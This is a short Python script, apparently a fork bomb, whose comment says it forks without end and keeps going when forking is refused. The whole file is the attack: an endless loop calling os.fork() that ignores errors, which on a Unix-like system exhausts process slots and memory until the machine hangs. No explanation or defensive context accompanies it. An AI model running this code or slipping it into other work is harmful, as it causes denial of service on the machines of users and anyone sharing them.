# Forks without end, and continues where that is refused.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
